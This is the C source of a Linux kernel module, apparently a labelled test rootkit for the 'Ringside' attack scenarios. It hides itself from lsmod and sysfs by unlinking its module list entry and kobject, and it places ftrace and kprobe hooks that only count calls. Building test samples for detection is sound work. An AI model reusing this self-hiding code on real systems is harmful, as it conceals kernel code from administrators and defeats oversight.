// SPDX-License-Identifier: GPL-2.0
/*
 * ringside_rk: a DELIBERATELY MALICIOUS kernel module, for Ringside's attack scenarios in the
 * throw-away sample guest only. Never load it on a machine you care about.
 *
 * The rootkit techniques of today that need no write to read-only memory, on command through
 * /proc/ringside_rk (root only):
 *
 *   hide             unlinks this module from the module list (list_del of THIS_MODULE->list)
 *                    and removes its kobject (/sys/module/ringside_rk): lsmod and sysfs no
 *                    longer show it, though it stays loaded and in the kernel's module tree
 *   unhide           links it back and re-creates its kobject (and its sections), so rmmod works
 *   ftrace <symbol>  registers an ftrace_ops on <symbol> whose handler lives in this module
 *   unftrace         unregisters it
 *   kprobe <symbol>  registers a kprobe on <symbol> whose pre-handler lives in this module
 *   unkprobe         unregisters it
 *
 * The handlers only count their calls: nothing is redirected. Reading the file prints the state.
 * Unloading undoes ftrace and kprobe; a hidden module cannot be unloaded (rmmod does not find it),
 * so unhide first.
 */
#include <linux/ftrace.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/proc_fs.h>
#include <linux/seq_file.h>
#include <linux/string.h>
#include <linux/sysfs.h>
#include <linux/uaccess.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Ringside test rootkit (hiding, ftrace and kprobe hooks): for throw-away guests only");

#define SYMBOL_LEN 64

static DEFINE_MUTEX(state_lock);
static struct list_head *hidden_after;
static bool hidden;

static char ftrace_symbol[SYMBOL_LEN];
static atomic_long_t ftrace_calls = ATOMIC_LONG_INIT(0);
static char kprobe_symbol[SYMBOL_LEN];
static atomic_long_t kprobe_calls = ATOMIC_LONG_INIT(0);

static void notrace ringside_rk_ftrace_handler(unsigned long ip, unsigned long parent_ip,
					       struct ftrace_ops *ops, struct ftrace_regs *regs)
{
	atomic_long_inc(&ftrace_calls);
}

static struct ftrace_ops ftrace_hook = {
	.func = ringside_rk_ftrace_handler,
	.flags = FTRACE_OPS_FL_RECURSION,
};

static int ringside_rk_pre_handler(struct kprobe *probe, struct pt_regs *regs)
{
	atomic_long_inc(&kprobe_calls);
	return 0;
}

static struct kprobe kprobe_hook = { .pre_handler = ringside_rk_pre_handler };

static int hide_module(void)
{
	if (hidden)
		return -EALREADY;
	hidden_after = THIS_MODULE->list.prev;
	list_del_init(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	hidden = true;
	return 0;
}

static int unhide_module(void)
{
	int error;

	if (!hidden)
		return -EALREADY;
	list_add(&THIS_MODULE->list, hidden_after);
	hidden = false;
	/* kobject_del left it initialised, parentless and out of its kset: add it back the same way. */
	error = kobject_add(&THIS_MODULE->mkobj.kobj, NULL, "%s", THIS_MODULE->name);
	if (error)
		return error;
	/* rmmod removes the sections group; its attribute_group is the first member of sect_attrs. */
#ifdef CONFIG_KALLSYMS
	if (THIS_MODULE->sect_attrs)
		error = sysfs_create_group(&THIS_MODULE->mkobj.kobj,
					   (struct attribute_group *)THIS_MODULE->sect_attrs);
#endif
	return error;
}

static int hook_ftrace(const char *symbol)
{
	int error;

	if (ftrace_symbol[0])
		return -EBUSY;
	error = ftrace_set_filter(&ftrace_hook, (unsigned char *)symbol, strlen(symbol), 1);
	if (error)
		return error;
	error = register_ftrace_function(&ftrace_hook);
	if (error)
		return error;
	strscpy(ftrace_symbol, symbol, SYMBOL_LEN);
	return 0;
}

static void unhook_ftrace(void)
{
	if (!ftrace_symbol[0])
		return;
	unregister_ftrace_function(&ftrace_hook);
	ftrace_symbol[0] = 0;
}

static int hook_kprobe(const char *symbol)
{
	int error;

	if (kprobe_symbol[0])
		return -EBUSY;
	strscpy(kprobe_symbol, symbol, SYMBOL_LEN);
	memset(&kprobe_hook, 0, sizeof(kprobe_hook));
	kprobe_hook.pre_handler = ringside_rk_pre_handler;
	kprobe_hook.symbol_name = kprobe_symbol;
	error = register_kprobe(&kprobe_hook);
	if (error)
		kprobe_symbol[0] = 0;
	return error;
}

static void unhook_kprobe(void)
{
	if (!kprobe_symbol[0])
		return;
	unregister_kprobe(&kprobe_hook);
	kprobe_symbol[0] = 0;
}

static ssize_t control_write(struct file *file, const char __user *buffer, size_t count,
			     loff_t *offset)
{
	char command[96];
	char *argument;
	int error = -EINVAL;

	if (!capable(CAP_SYS_ADMIN))
		return -EPERM;
	if (count == 0 || count >= sizeof(command))
		return -EINVAL;
	if (copy_from_user(command, buffer, count))
		return -EFAULT;
	command[count] = 0;
	strim(command);
	argument = strchr(command, ' ');
	if (argument) {
		*argument++ = 0;
		argument = skip_spaces(argument);
		if (strlen(argument) >= SYMBOL_LEN)
			return -ENAMETOOLONG;
	}
	mutex_lock(&state_lock);
	if (!strcmp(command, "hide")) {
		error = hide_module();
	} else if (!strcmp(command, "unhide")) {
		error = unhide_module();
	} else if (!strcmp(command, "ftrace") && argument && *argument) {
		error = hook_ftrace(argument);
	} else if (!strcmp(command, "unftrace")) {
		unhook_ftrace();
		error = 0;
	} else if (!strcmp(command, "kprobe") && argument && *argument) {
		error = hook_kprobe(argument);
	} else if (!strcmp(command, "unkprobe")) {
		unhook_kprobe();
		error = 0;
	}
	mutex_unlock(&state_lock);
	return error ? error : count;
}

static int control_show(struct seq_file *file, void *unused)
{
	mutex_lock(&state_lock);
	seq_printf(file, "hidden %s\n", hidden ? "yes" : "no");
	seq_printf(file, "ftrace %s calls %ld\n", ftrace_symbol[0] ? ftrace_symbol : "none",
		   atomic_long_read(&ftrace_calls));
	seq_printf(file, "kprobe %s calls %ld\n", kprobe_symbol[0] ? kprobe_symbol : "none",
		   atomic_long_read(&kprobe_calls));
	mutex_unlock(&state_lock);
	return 0;
}

static int control_open(struct inode *inode, struct file *file)
{
	return single_open(file, control_show, NULL);
}

static const struct proc_ops control_ops = {
	.proc_open = control_open,
	.proc_read = seq_read,
	.proc_lseek = seq_lseek,
	.proc_release = single_release,
	.proc_write = control_write,
};

static struct proc_dir_entry *control_file;

static int __init ringside_rk_init(void)
{
	control_file = proc_create("ringside_rk", 0600, NULL, &control_ops);
	return control_file ? 0 : -ENOMEM;
}

static void __exit ringside_rk_exit(void)
{
	proc_remove(control_file);
	mutex_lock(&state_lock);
	unhook_kprobe();
	unhook_ftrace();
	mutex_unlock(&state_lock);
}

module_init(ringside_rk_init);
module_exit(ringside_rk_exit);
